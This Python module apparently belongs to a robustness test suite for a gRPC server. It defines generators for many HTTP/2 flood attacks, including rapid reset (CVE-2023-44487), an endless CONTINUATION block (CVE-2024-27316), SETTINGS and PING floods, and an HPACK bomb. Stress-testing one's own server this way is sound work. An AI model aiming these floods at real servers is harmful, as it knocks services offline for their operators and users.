"""Frames that cost a peer little and lead nowhere, without an end."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from ..support import CLASSES
from .peer import Peer, enveloped, raw, request_fields

SET = "/kv.v1.KeyValueService/Set"
WATCH = "/grpc.health.v1.Health/Watch"

Frames = Iterator["Frame | bytes"]


def half_open(peer: Peer, path: str = SET) -> HeadersFrame:
    """The HEADERS of a call that has no DATA."""
    return peer.headers(peer.next_stream(), request_fields(path))


def pings(peer: Peer) -> Frames:
    """PING, again and again."""
    yield from itertools.repeat(PingFrame(opaque_data=b"attacked"))


def ping_answers(peer: Peer) -> Frames:
    """Answers to PINGs that nobody sent."""
    yield from itertools.repeat(PingFrame(opaque_data=b"attacked", flags=["ACK"]))


def settings(peer: Peer) -> Frames:
    """Empty SETTINGS, each of which has to be acknowledged."""
    yield from itertools.repeat(SettingsFrame())


def settings_answers(peer: Peer) -> Frames:
    """Acknowledgements of nothing."""
    yield from itertools.repeat(SettingsFrame(flags=["ACK"]))


def many_settings(peer: Peer) -> Frames:
    """SETTINGS with thousands of entries."""
    yield from itertools.repeat(raw(4, 0, 0, bytes.fromhex("00ff00000001") * 2000))


def initial_windows(peer: Peer) -> Frames:
    """Thousands of changes of every stream's window, while many streams are open."""
    yield from [half_open(peer) for _ in range(900)]
    yield from itertools.repeat(raw(4, 0, 0, bytes.fromhex("00040000ffff00047fff0000") * 1300))


def resets(peer: Peer) -> Frames:
    """Rapid reset: each call is cancelled as soon as it has begun (CVE-2023-44487)."""
    while True:
        headers = half_open(peer)
        yield from (headers, RstStreamFrame(headers.stream_id, error_code=8))


def whole_calls_reset(peer: Peer) -> Frames:
    """The same with calls whose whole request was sent."""
    message = enveloped(CLASSES["Set"][0](key="k", value="v").SerializeToString())
    while True:
        headers = half_open(peer)
        yield headers
        yield DataFrame(headers.stream_id, message, flags=["END_STREAM"])
        yield RstStreamFrame(headers.stream_id, error_code=8)


def faults(peer: Peer) -> Frames:
    """Calls that the server itself has to reset."""
    while True:
        yield peer.headers(peer.next_stream(), [(":method", "POST")])


def priorities(peer: Peer) -> Frames:
    """PRIORITY on streams that are not open."""
    yield from itertools.repeat(PriorityFrame(1001, depends_on=0, stream_weight=3))


def windows(peer: Peer) -> Frames:
    """WINDOW_UPDATEs for the connection, where nothing was sent."""
    yield from itertools.repeat(WindowUpdateFrame(0, window_increment=1))


def windows_of_streams(peer: Peer) -> Frames:
    """WINDOW_UPDATEs for a stream that is over."""
    headers = half_open(peer)
    yield from (headers, RstStreamFrame(headers.stream_id, error_code=8))
    yield from itertools.repeat(WindowUpdateFrame(headers.stream_id, window_increment=1))


def empty_data(peer: Peer) -> Frames:
    """DATA without data."""
    headers = half_open(peer)
    yield headers
    yield from itertools.repeat(DataFrame(headers.stream_id, b""))


def padding(peer: Peer) -> Frames:
    """DATA that is nothing but padding."""
    headers = half_open(peer)
    yield headers
    yield from itertools.repeat(DataFrame(headers.stream_id, b"", pad_length=9, flags=["PADDED"]))


def crumbs_of_data(peer: Peer) -> Frames:
    """A message that comes a byte a frame."""
    headers = half_open(peer)
    yield headers
    yield enveloped_start(headers.stream_id, 60_000)
    yield from itertools.repeat(DataFrame(headers.stream_id, b"x"))


def enveloped_start(stream_id: int, size: int) -> DataFrame:
    """The DATA that announces a message of `size` bytes."""
    return DataFrame(stream_id, b"\0" + size.to_bytes(4, "big"))


def late_data(peer: Peer) -> Frames:
    """DATA on a call that was reset."""
    headers = half_open(peer)
    yield from (headers, RstStreamFrame(headers.stream_id, error_code=8))
    yield from itertools.repeat(DataFrame(headers.stream_id, b"x" * 100))


def unknown_frames(peer: Peer) -> Frames:
    """Frames of a type that does not exist."""
    yield from itertools.repeat(raw(0x77, 0, 0, b"?"))


def goodbyes(peer: Peer) -> Frames:
    """GOAWAY, again and again."""
    yield from itertools.repeat(GoAwayFrame(last_stream_id=0, error_code=0))


def too_many_streams(peer: Peer) -> Frames:
    """Calls that never end, and ever more of them."""
    while True:
        yield half_open(peer)


def endless_block(peer: Peer) -> Frames:
    """A header block of many tiny pieces that never ends (CVE-2024-27316)."""
    yield HeadersFrame(1, b"\x83\x86", flags=[])
    yield from itertools.repeat(ContinuationFrame(1, b"\x90"))


def empty_continuations(peer: Peer) -> Frames:
    """The same with pieces that have nothing in them."""
    yield HeadersFrame(1, b"\x83\x86", flags=[])
    yield from itertools.repeat(ContinuationFrame(1, b""))


def large_block(peer: Peer) -> Frames:
    """64 KiB of CONTINUATION."""
    yield HeadersFrame(1, b"\x83\x86", flags=[])
    yield from itertools.repeat(ContinuationFrame(1, b"\0\1a\x7f\x81\x7d" + b"x" * 16_000))


def crumbs(peer: Peer) -> Frames:
    """A header for every byte of a block."""
    start = b"\x83\x86\x04\x01/\x0f\x10\x10application/grpc" + b"\xa0" * 380
    for stream_id in itertools.count(1, 2):
        # Each block differs from the others, so that none is remembered.
        yield HeadersFrame(stream_id, start + b"\0\1n\5%05d" % stream_id, flags=["END_HEADERS", "END_STREAM"])


def bomb(peer: Peer) -> Frames:
    """A large header put into the table once, and then named by a byte each time."""
    table = b"\x40\x06cookie\x7f\xb9\x16" + b"x" * 3000
    yield HeadersFrame(1, b"\x83\x86\x84" + table + b"\xbe" * 4000, flags=["END_HEADERS", "END_STREAM"])
    yield from pings(peer)


FLOODS = [
    pings, ping_answers, settings, settings_answers, many_settings, initial_windows, resets, whole_calls_reset, faults,
    priorities, windows, windows_of_streams, empty_data, padding, crumbs_of_data, late_data, unknown_frames, goodbyes,
    too_many_streams, endless_block, empty_continuations, large_block, crumbs, bomb,
]  # fmt: skip
